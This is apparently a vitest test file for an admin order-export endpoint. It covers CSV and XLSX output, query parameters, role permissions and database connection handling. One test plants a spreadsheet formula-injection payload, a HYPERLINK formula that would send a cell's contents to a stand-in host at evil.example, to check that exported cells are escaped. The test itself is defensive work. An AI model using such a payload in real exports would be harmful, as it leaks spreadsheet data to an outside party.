import { readXlsx } from 'hucre/xlsx'
import { request } from 'node:http'
import { sql } from 'kysely'
import { beforeAll, describe, expect, test } from 'vitest'
import { exportFields } from '#contract/export.ts'
import { assignOrders } from '#contract/moves.ts'
import { listOrders, searchOrders, type ListField, type OrderRow } from '#contract/orders.ts'
import { queueNames, type QueueName } from '#contract/rules/queues.ts'
import { roles } from '#contract/rules/roles.ts'
import { fetchCsv } from '../support/csv.ts'
import { insertManyOrders } from '../support/many-orders.ts'
import { createTestOrder } from '../support/orders.ts'
import { useTestApp } from '../support/use-test-app.ts'

let token: string
let now = Date.parse('2026-11-21T03:00:00Z')

const app = useTestApp({ clock: () => new Date((now += 1000)) })
beforeAll(async () => {
  token = await app.signInAs('Admin')
  await insertManyOrders(app.owner, 3000, 5_000_000)
})

const exportCsv = (orderName: QueueName, query: Record<string, string> = {}, authToken = token) =>
  fetchCsv(app.url, `/admin/export/${orderName}`, query, authToken)
const ids = (rows: Record<string, string>[]) => rows.map((row) => Number(row['order_id']))
const list = async (orderName: QueueName, query: Record<string, unknown> = {}) =>
  (await app.call(listOrders, { params: { orderName }, query: { limit: 10_000, ...query } }, { token })).body
    .data

const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'

/** A list row as the CSV file contains it. */
/** A cell that a spreadsheet would take for a formula begins with an apostrophe. */
const toCsvCell = (text: string) => (/^[=+@-]/.test(text) ? `'${text}` : text)
const toCsvCells = (row: OrderRow) =>
  Object.fromEntries(
    exportFields.map((field) => [field, row[field] === null ? '' : toCsvCell(String(row[field]))]),
  )

test('an export is a UTF-8 attachment with the fields of a list row (product §5)', async () => {
  const orderId = await createTestOrder(app, { arrival_full_name: 'Nguyễn Thị Ánh Tuyết 王' })
  const { http, headers, bytes, rows } = await exportCsv('newOrder', { limit: '1' })
  expect(http).toBe(200)
  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(headers.get('content-disposition')).toBe('attachment; filename="newOrder-2026-11-21.csv"')
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  expect(bytes.toString().slice(1).split('\r\n')[0]).toBe(exportFields.join(','))
  expect(rows).toMatchObject([
    { order_id: String(orderId), arrival_full_name: 'Nguyễn Thị Ánh Tuyết 王', departure_full_name: '' },
  ])
})

test.each(queueNames)('exporting %s gives every row of the list in its order', async (queue) => {
  const rows = await list(queue)
  expect((await exportCsv(queue)).rows).toEqual(rows.map(toCsvCells))
})

test('as XLSX an export has the same rows, with instants as dates in EST and ids as text', async () => {
  const orderId = await createTestOrder(app, {
    arrival_full_name: '=1+1',
    arrival_phone_number: '00812',
    arrival_doa: '2026-11-23',
  })
  const query = { start: '0', end: '40' }
  const asCsv = await exportCsv('newOrder', query)
  const response = await fetch(
    `${app.url}/api/admin/export/newOrder?${new URLSearchParams({ ...query, format: 'xlsx' })}`,
    { headers: { authorization: token, 'accept-encoding': 'gzip' } },
  )
  expect(response.headers.get('content-encoding')).toBeNull()
  expect(response.headers.get('content-type')).toBe(xlsxType)
  expect(response.headers.get('content-disposition')).toBe('attachment; filename="newOrder-2026-11-21.xlsx"')
  const { sheets } = await readXlsx(new Uint8Array(await response.arrayBuffer()))
  const [heads, ...rows] = sheets[0]?.rows ?? []
  expect(heads).toEqual(exportFields)
  const valueOf = (row: (typeof rows)[number], field: ListField) => row[exportFields.indexOf(field)]
  expect(rows.map((row) => valueOf(row, 'order_id'))).toEqual(asCsv.rows.map((row) => row['order_id']))
  const [row = []] = rows
  const [inCsv] = asCsv.rows
  expect(valueOf(row, 'order_id')).toBe(String(orderId))
  expect(valueOf(row, 'arrival_full_name')).toBe('=1+1')
  expect(valueOf(row, 'arrival_phone_number')).toBe('00812')
  expect(valueOf(row, 'travel_date')).toEqual(new Date(`${inCsv?.['travel_date']}T00:00:00Z`))
  // As the screens show it: five hours before UTC.
  expect(valueOf(row, 'created_at')).toEqual(
    new Date(Date.parse(inCsv?.['created_at'] ?? '') - 5 * 3_600_000),
  )
})

test('a failure before the first row is answered as an error', async () => {
  const { db } = app.platform
  const listQuery = await db.startTransaction().execute()
  await sql`lock table orders in access exclusive mode`.execute(listQuery)
  const asked = fetch(`${app.url}/api/admin/export/allOrder`, {
    headers: { authorization: token, 'accept-encoding': 'gzip' },
  })
  const cancelled = async () => {
    const { rows } = await sql`select pg_cancel_backend(pid) from pg_stat_activity
      where datname = current_database() and wait_event_type = 'Lock'`.execute(db)
    return rows.length
  }
  await expect.poll(cancelled).toBe(1)
  const answer = await asked
  await listQuery.rollback().execute()
  expect(answer.status).toBe(503)
  expect(answer.headers.get('content-disposition')).toBeNull()
  expect(await answer.json()).toMatchObject({ status: 0 })
})

describe('parameters', () => {
  test('page, limit and perPage export that page', async () => {
    const page = (await list('completedOrder', { page: 3, limit: 20 })).map((row) => row.order_id)
    expect(ids((await exportCsv('completedOrder', { page: '3', limit: '20', delay: '1' })).rows)).toEqual(
      page,
    )
    expect(ids((await exportCsv('completedOrder', { page: '3', perPage: '20' })).rows)).toEqual(page)
  })

  test('sort, order and filter work as in the list', async () => {
    const query = { sort: 'travel_date', order: 'asc', 'filter[process_month]': '2026-12' }
    const rows = await list('completedOrder', query)
    expect(rows.length).toBeGreaterThan(10)
    expect(ids((await exportCsv('completedOrder', query)).rows)).toEqual(rows.map((row) => row.order_id))
  })

  test('month exports one month of future orders', async () => {
    const orderId = await createTestOrder(app, { arrival_doa: '2027-03-20' })
    await createTestOrder(app, { arrival_doa: '2027-04-20' })
    expect(ids((await exportCsv('futureOrder', { month: '3' })).rows)).toEqual([orderId])
  })

  test('searchVal exports the search results, start and end a range of them', async () => {
    const searchVal = 't12'
    const found = async (start: number, end: number) => {
      const body = { searchVal, folderName: 'completedOrder' as const, start, end }
      return (await app.call(searchOrders, { body }, { token })).body.data.map((row) => row.order_id)
    }
    const all = await found(0, 5000)
    expect(all.length).toBeGreaterThan(20)
    expect(ids((await exportCsv('completedOrder', { searchVal })).rows)).toEqual(all)
    expect(ids((await exportCsv('completedOrder', { searchVal, start: '5', end: '9' })).rows)).toEqual(
      await found(5, 9),
    )
    expect(ids((await exportCsv('completedOrder', { searchVal: ' ', limit: '2' })).rows)).toHaveLength(2)
  })

  test.each([
    ['allOrder', 'searchVal=ab', 'Please enter at least 3 characters.'],
    ['allOrder', 'limit=x', 'Limit is not valid.'],
    ['allOrder', 'start=-1', 'start is not valid.'],
    ['allOrder', 'format=pdf', 'Unknown format.'],
    ['allOrder', 'month=3', 'Only future orders are listed by month.'],
    ['allOrder', 'filter[password]=x', 'Orders cannot be filtered by password.'],
    ['secretOrder', '', 'Unknown order list.'],
  ])('%s?%s answers 400 %s', async (queue, query, message) => {
    const response = await fetch(`${app.url}/api/admin/export/${queue}?${query}`, {
      headers: { authorization: token },
    })
    expect(response.status).toBe(400)
    expect(await response.json()).toMatchObject({ status: 0, message })
  })
})

test('cells that a spreadsheet would evaluate are escaped', async () => {
  const attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
  await createTestOrder(app, {
    arrival_full_name: attack,
    arrival_phone_code: '+62',
    arrival_phone_number: '@812',
    arrival_email: '-x@example.com',
  })
  const [row] = (await exportCsv('newOrder', { limit: '1' })).rows
  expect(row).toMatchObject({
    arrival_full_name: `'${attack}`,
    arrival_phone_code: "'+62",
    arrival_phone_number: "'@812",
    arrival_email: "'-x@example.com",
  })
})

test("exporting My Orders gives the caller's own orders", async () => {
  const { name, email } = await app.addMember('Sri Single', 'Night Staff')
  const own = await app.signInWith(email)
  const orderId = await createTestOrder(app)
  await app.call(assignOrders, { body: { orderId, assignto: name } }, { token: own })
  const { rows } = await exportCsv('myOrder', {}, own)
  expect(ids(rows)).toEqual([orderId])
  expect(rows[0]).toMatchObject({ assign_to: name })
})

test('every role may export queues, all but Telecaller Order History, and nobody without a session (product §4)', async () => {
  for (const role of roles) {
    const authToken = await app.signInAs(role)
    expect((await exportCsv('priorityOrder', { limit: '1' }, authToken)).http, role).toBe(200)
    expect((await exportCsv('allOrder', { limit: '1' }, authToken)).http, role).toBe(
      role === 'Telecaller' ? 403 : 200,
    )
  }
  expect((await exportCsv('newOrder', {}, '')).http).toBe(401)
})

/** Starts to read an export and aborts the request. */
const readAndAbort = (orderName: QueueName) =>
  new Promise<void>((resolve, reject) => {
    const asked = request(`${app.url}/api/admin/export/${orderName}`, { headers: { authorization: token } })
    asked.on('response', (answer) =>
      answer.once('data', () => {
        answer.on('error', () => resolve())
        asked.destroy()
      }),
    )
    asked.on('error', reject).end()
  })

/** Connections that read for lists and exports. */
const readers = async () =>
  (
    await sql<{ pid: number }>`select pid from pg_stat_activity
      where datname = current_database() and pid <> pg_backend_pid() and xact_start is not null`.execute(
      app.owner,
    )
  ).rows

test('aborted exports release their database connections', async () => {
  // More readers than database connections.
  for (let reader = 0; reader < 20; reader++) await readAndAbort('allOrder')
  await expect.poll(readers).toEqual([])
})

describe('a lost database connection', () => {
  // More than the buffers of a connection take.
  beforeAll(() => insertManyOrders(app.owner, 30_000, 6_000_000))

  test.each(['csv', 'xlsx'])('a %s export that was reading by it is no whole file', async (format) => {
    const whole = new Promise<boolean>((resolve, reject) => {
      const url = `${app.url}/api/admin/export/allOrder?format=${format}`
      const asked = request(url, { headers: { authorization: token }, agent: false }, (answer) => {
        answer.once('close', () => resolve(answer.complete)).on('error', () => {})
        void (async () => {
          const begun = await readers()
          expect(begun).toHaveLength(1)
          await sql`select pg_terminate_backend(${begun[0]?.pid})`.execute(app.owner)
          answer.resume()
        })().catch(reject)
      })
      asked.on('error', reject).end()
    })
    expect(await whole).toBe(false)
    await expect.poll(readers).toEqual([])
    expect((await exportCsv('newOrder', { limit: '1' })).http).toBe(200)
  })
})
